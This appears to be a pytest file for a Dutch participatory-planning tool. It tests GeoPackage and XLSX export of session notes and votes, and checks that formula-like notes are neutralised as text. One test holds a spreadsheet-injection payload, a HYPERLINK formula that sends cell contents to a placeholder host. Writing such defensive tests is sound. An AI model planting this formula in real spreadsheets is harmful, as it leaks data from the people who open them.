"""A werksessie afterwards: GeoPackage with the notes as points, XLSX with every table."""

import geopandas as gpd
import pandas as pd
import pytest

from gebied.core.errors import GebiedError
from gebied.werkplaats.export import export_werksessie
from gebied.werkplaats.store import Store


def test_session_exports_as_geopackage_and_xlsx(tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'w.sqlite'}")
    code, token = store.open_sessie("Avond", "liechtenstein", None, ["A"])
    store.add_opmerking(code, "p1", "wonen", "Hier wil ik wonen", 9.521, 47.141, naam="Bert")
    hidden = store.add_opmerking(code, "p2", "algemeen", "weg ermee", 9.5, 47.1)
    store.verberg(code, token, hidden)
    store.add_reactie(code, "p1", "A", "voor", reden="dichtbij")
    gpkg = export_werksessie(store, code, tmp_path / "sessie.gpkg")
    notes = gpd.read_file(gpkg, layer="opmerkingen")
    assert notes.crs.to_epsg() == 4326 and len(notes) == 2
    row = notes.set_index("naam").loc["Bert"]
    assert (row.geometry.x, row.geometry.y) == pytest.approx((9.521, 47.141))
    assert notes["verborgen"].astype(bool).sum() == 1
    votes = gpd.read_file(gpkg, layer="stemmen")
    assert int(votes.iloc[0]["heeft de voorkeur"]) == 1
    xlsx = export_werksessie(store, code, tmp_path / "sessie.xlsx")
    sheets = pd.read_excel(xlsx, sheet_name=None)
    assert set(sheets) == {"opmerkingen", "reacties", "stemmen", "antwoorden", "sessie"}
    assert sheets["reacties"].iloc[0]["reden"] == "dichtbij"
    with pytest.raises(GebiedError):
        export_werksessie(store, code, tmp_path / "sessie.csv")


def test_a_note_that_looks_like_a_formula_arrives_in_xlsx_and_csv_as_text(tmp_path):
    import openpyxl

    from gebied.core.io import write_table

    store = Store(f"sqlite:///{tmp_path / 'w.sqlite'}")
    code, _ = store.open_sessie("Avond", "liechtenstein", None, [])
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
    for i, text in enumerate([evil, "+31 6 1234", "@SUM(A1)", "-2+3"]):
        store.add_opmerking(code, f"p{i}", "algemeen", text, 9.5, 47.1)
    xlsx = export_werksessie(store, code, tmp_path / "sessie.xlsx")
    sheet = openpyxl.load_workbook(xlsx)["opmerkingen"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)  # text, not a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    notes = store.opmerkingen(code)[["tekst"]]
    write_table(notes, tmp_path / "n.csv")
    lines = (tmp_path / "n.csv").read_text(encoding="utf-8").splitlines()[1:]
    assert all(line.lstrip('"').startswith("'") for line in lines), lines
    write_table(notes, tmp_path / "n.xlsx")
    assert not any(c.data_type == "f" for row in openpyxl.load_workbook(tmp_path / "n.xlsx").active.iter_rows()
                   for c in row)
